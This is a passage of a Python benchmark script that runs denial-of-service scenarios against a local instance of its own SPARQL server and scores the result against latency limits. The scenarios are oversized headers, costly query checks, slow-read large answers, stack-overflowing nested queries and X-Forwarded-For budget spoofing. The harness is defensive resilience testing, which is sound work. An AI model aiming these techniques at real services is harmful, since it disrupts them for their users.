        Attack("one 1 MB header, again and again", repeat, {"make": huge_header, "connections": 1}),
    )),
    Scenario("query-check", f"~{GUARD_QUERY_CHARS // 1000} KB queries that the query check takes "
             "seconds over, POST application/sparql-query, 4 connections", (
                 Attack("ambiguous '<' before comments, full check, twice", repeat,
                        {"make": guard_post, "connections": 4}, probe_facts=guard_cost),
             )),
    Scenario("big-answers", f"a 1 KB query with a huge answer, read at {SLOW_READ} B/s by "
             "4 connections", (
                 Attack("GET /sparql, JSON", repeat, {"make": big_answer, **SLOW_READER}),
                 Attack("GET /query, the HTML page", repeat,
                        {"make": big_answer_page, **SLOW_READER}),
             )),
    Scenario("crash-loop", f"{CRASH_DEPTH:,} nested groups (a worker's parser overflows its "
             "stack), 2 connections, again and again", (
                 Attack("nested braces, POST", repeat, {"make": nested_post, "connections": 2}),
             )),
    Scenario("forwarded-for", "a budget key of the client's choosing, with X-Forwarded-For "
             f"(server: {' '.join(SMALL_BUDGET)}, so that a budget is spent in seconds); then "
             "12 slow queries at once, a new key each", (
                 Attack(f"from {ATTACKER} (not a trusted proxy)", forwarded_for,
                        {"source": ATTACKER, "other": VICTIM, "connections": 12},
                        server_flags=SMALL_BUDGET),
                 Attack("from 127.0.0.1 (uvicorn's default trusted proxy; ours trusts none unless "
                        "--trusted-proxies says so; victim 127.0.0.3)",
                        forwarded_for,
                        {"source": "127.0.0.1", "other": "127.0.0.3", "connections": 12},
                        server_flags=SMALL_BUDGET, victim="127.0.0.3"),
             )),
)}


# ------------------------------------------------------------------ the run

def release_target(release: Path) -> tuple[Target, dict]:
    manifest = json.loads((release / "release.json").read_text(encoding="utf-8"))

    def rows(name: str) -> list[dict]:
        with open(release / "data" / name, encoding="utf-8", newline="") as fh:
            return list(csv.DictReader(fh))

    cases, agencies = rows("cases.csv"), rows("agencies.csv")
    names = (v for a in agencies for v in (a["name_zh"], a["name_en"], a["agency_id"]) if v)
    texts = (" ".join(filter(None, (c["name_zh"], c["name_en"], c["procurement_zh"],
                                    c["procurement_en"]))) for c in cases)
    target = Target(host="127.0.0.1", port=0, case_iris=tuple(c["iri"] for c in cases),
                    agency_names=tuple(names), case_texts=tuple(texts))
    return target, manifest


def cannot_run(attack: Attack) -> str | None:
    """Why this machine cannot hold the attack's connections, if it cannot."""
    if not attack.held:
        return None
    files, ports = attack.held + FD_MARGIN, attack.held * attack.processes
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if files > hard:
        return f"needs {files:,} open files in a process; the hard limit is {hard:,}"
    low, high = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())
    if ports > high - low + 1:
        return f"needs {ports:,} local ports; the range has {high - low + 1:,}"
    return None


def window(server: Server, target: Target, seconds: float, source: str,
           attack: Attack | None = None) -> dict:
    """The victim (and the attack, if any) for ``seconds``, the server sampled meanwhile."""
    start_at = time.time() + (ATTACK_LEAD if attack else 0.0)
    attackers = Attackers(attack, target, start_at, start_at + seconds) if attack else None
    sampler = Sampler(server.pid, on_cap=attackers.kill if attackers else None)
    sampler.start()
    try:
        phase = asyncio.run(victim(target, source, start_at, seconds))
    finally:
        sampled = sampler.result()
        seen = attackers.collect() if attackers else None
    phase["server"] = sampled
    if seen is not None:
        phase["attacker"] = seen
    return phase


async def warm_up(target: Target, source: str) -> None:
    """A few lookups and health checks, unrecorded: the first queries open the store's files."""
    health = http_request(target, "GET", "/-/health")
    for n, iri in zip(range(20), itertools.cycle(target.case_iris)):
        lookup = sparql_get(target, LOOKUP.format(iri=iri) + f" # warm-up {n}")
        for data in (lookup, health):
            await exchange(target, data, source=source, timeout=VICTIM_TIMEOUT)


def run_attack(attack: Attack, target: Target, release: Path, work: Path, args) -> dict:
    """A fresh server; the baseline; the attack; how the server is after it."""
    out: dict = {"label": attack.label}
    reason = cannot_run(attack)
    if reason:
        return dict(out, skipped=reason)
    server = Server(release, work, [*attack.server_flags, *args.server_flags])
    out["server_command"] = shlex.join(server.command[1:])
    try:
        out["ready_seconds"] = round(server.wait_ready(), 2)
        out["server_fd_limit"] = fd_limit(server.pid)
        target = dataclasses.replace(target, port=server.port)
        asyncio.run(warm_up(target, attack.victim))
        out["baseline"] = window(server, target, args.seconds, attack.victim)
        killed_before = server.health().get("workers_killed")
        out["attack"] = window(server, target, args.seconds, attack.victim, attack)
        out["recovered_after_s"] = server.recovery()
        out["workers_killed"] = [killed_before, server.health().get("workers_killed")]
    except Exception as exc:  # noqa: BLE001 - a variant that cannot run does not end the probe
        out["failed"] = f"{type(exc).__name__}: {exc}"[:2000]
    finally:
        server.stop()
    if attack.probe_facts is not None:
        out["probe_facts"] = attack.probe_facts()
    for phase in ("baseline", "attack"):
        if phase in out:
            out[phase]["problems"] = problems(out[phase])
    return out


# ------------------------------------------------------------------ the report

def fmt_ms(v: float | None) -> str:
    return "-" if v is None else f"{v:,.1f}" if v < 100 else f"{v:,.0f}"


def fmt_value(name: str, value) -> str:
    if isinstance(value, bool) or not isinstance(value, int):
        return str(value)
    if name.endswith("bytes"):
        return (f"{value:,} B" if value < 1024 else f"{value / 1024:,.1f} KB" if value < 2**20
                else f"{value / 2**20:,.1f} MB")
    return f"{value:,}"


def fmt_items(items: dict) -> str:
    return ", ".join(f"{k} {fmt_value(k, v)}" for k, v in items.items())


def fmt_counter(counter: dict) -> str:
    ordered = sorted(counter.items(), key=lambda kv: -kv[1])
    return ", ".join(f"{k} x{v:,}" for k, v in ordered) or "none"


COLUMNS = (("", 12), ("health n", 9), ("p50", 7), ("p99", 8), ("lookup n", 9), ("p50", 7),
           ("p99", 8), ("errors", 7), ("RSS MB", 8), ("peak", 6), ("fds", 7), ("peak", 7))


def row(cells: list[str], verdict: str) -> str:
    first, *rest = cells
    widths = [w for _, w in COLUMNS]
    aligned = "".join(f"{c:>{w}}" for c, w in zip(rest, widths[1:], strict=True))
    return f"{first:<{widths[0]}}{aligned}  {verdict}"


def phase_line(name: str, phase: dict) -> str:
    h, lk, s = phase["health"], phase["lookup"], phase["server"]
    verdict = "PASS" if not phase["problems"] else "FAIL: " + "; ".join(phase["problems"])
    return row([f"  {name}", f"{h['requests']:,}", fmt_ms(h["p50_ms"]), fmt_ms(h["p99_ms"]),
                f"{lk['requests']:,}", fmt_ms(lk["p50_ms"]), fmt_ms(lk["p99_ms"]),
                f"{h['errors'] + lk['errors']:,}", f"{s['rss_start'] / 2**20:,.0f}",
                f"{s['rss_peak'] / 2**20:,.0f}", f"{s['fds_start']:,}", f"{s['fds_peak']:,}"],
               verdict)


def finding_lines(result: dict) -> list[str]:
    attack, seen = result["attack"], result["attack"]["attacker"]
    saw = f"{fmt_counter(seen['statuses'])}; errors {fmt_counter(seen['errors'])}"
    lines = [f"    attacker saw: {saw}"]
    more = {**seen["counts"], **seen["peaks"], **seen["facts"]}
    if more:
        lines.append(f"    attacker: {fmt_items(more)}")
    for kind in ("health", "lookup"):
        if attack[kind]["error_kinds"]:
            lines.append(f"    victim {kind} errors: {fmt_counter(attack[kind]['error_kinds'])}")
    before, after = result.get("workers_killed", [None, None])
    recovered = result.get("recovered_after_s")
    server = {"workers_killed": f"{before} -> {after}",
              "processes_started": attack["server"]["processes_started"],
              "fd_limit": result.get("server_fd_limit"),
              "healthy_again_after": "not within 30 s" if recovered is None else f"{recovered} s"}
    capped = "attack_stopped_at_rss_cap_after_s"
    if capped in attack["server"]:
        server[capped] = attack["server"][capped]
    lines.append(f"    server: {fmt_items(server)}")
    if result.get("probe_facts"):
        lines.append(f"    probe: {fmt_items(result['probe_facts'])}")
    return lines


def report(results: dict) -> None:
    print(f"\nrelease {results['release']} ({results['cases']:,} cases, "
          f"{results['triples']:,} triples), {results['cpus']} CPUs, loopback, "
          f"{results['seconds']:g} s a window")
    print(f"victim {VICTIM}: GET /-/health every {HEALTH_EVERY * 1000:g} ms and a SPARQL lookup of "
          f"a case every {LOOKUP_EVERY * 1000:g} ms, each on a fresh connection, time-out "
          f"{VICTIM_TIMEOUT:g} s; attacker {ATTACKER}")
    print(f"limits: health p99 < {HEALTH_P99_MS:g} ms, lookup p99 < {LOOKUP_P99_MS:g} ms, "
          f"victim errors <= {MAX_VICTIM_ERRORS}; latencies in ms; RSS of the server's process "
          "tree, fds of its main process, at the start and at peak")
    for name, scenario in results["scenarios"].items():
        print(f"\n== {name}: {scenario['summary']}")
        print(row([title for title, _ in COLUMNS], "verdict"))
        for result in scenario["variants"]:
            print(result["label"])
            if "skipped" in result or "failed" in result:
                print(f"    could not run: {result.get('skipped') or result.get('failed')}")
            for phase in ("baseline", "attack"):
                if phase in result:
                    print(phase_line(phase, result[phase]))
            if "attack" in result:
                print("\n".join(finding_lines(result)))


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m bench.attacks",
                                description=__doc__.split("\n\n")[0])
    p.add_argument("--release", type=Path, required=True, help="A built release folder")
    p.add_argument("--only", nargs="+", choices=list(SCENARIOS), metavar="NAME",
                   help=f"Run only these scenarios ({', '.join(SCENARIOS)})")
    p.add_argument("--seconds", type=float, default=10.0,
                   help="Seconds of each window, baseline and attack (default 10)")
    p.add_argument("--server-arg", action="append", default=[], dest="server_args", metavar="FLAGS",
                   help="More flags for `lianzheng serve`, split as a shell would (repeatable): "
                        "--server-arg '--max-body 100000'")
    p.add_argument("--out", type=Path, default=ROOT / "bench" / "results")
    args = p.parse_args(argv)
    args.server_flags = [f for value in args.server_args for f in shlex.split(value)]
    release = args.release.resolve()
    target, manifest = release_target(release)
    results = {
        "release": str(release), "cases": manifest["rows"]["cases"], "triples": manifest["triples"],
        "cpus": os.cpu_count(), "seconds": args.seconds,
        "when": _dt.datetime.now(_dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "limits": {"health_p99_ms": HEALTH_P99_MS, "lookup_p99_ms": LOOKUP_P99_MS,
                   "max_victim_errors": MAX_VICTIM_ERRORS},
        "victim": {"address": VICTIM, "health_every_s": HEALTH_EVERY,
                   "lookup_every_s": LOOKUP_EVERY, "timeout_s": VICTIM_TIMEOUT,
                   "connection": "fresh per request"},
        "attacker": ATTACKER, "server_flags": args.server_flags, "scenarios": {}}
    work = Path(tempfile.mkdtemp(prefix="lianzheng-attacks-"))
    try:
        for name in args.only or list(SCENARIOS):
            scenario = SCENARIOS[name]
            entry = results["scenarios"][name] = {"summary": scenario.summary, "variants": []}
            for attack in scenario.attacks:
                print(f"{name}: {attack.label} ...", flush=True)
                entry["variants"].append(run_attack(attack, target, release, work, args))
    finally:
        shutil.rmtree(work, ignore_errors=True)
    report(results)
    args.out.mkdir(parents=True, exist_ok=True)
    out = args.out / f"attacks-{results['when'].replace(':', '')}.json"
    out.write_text(json.dumps(results, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    print(f"\nwritten: {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
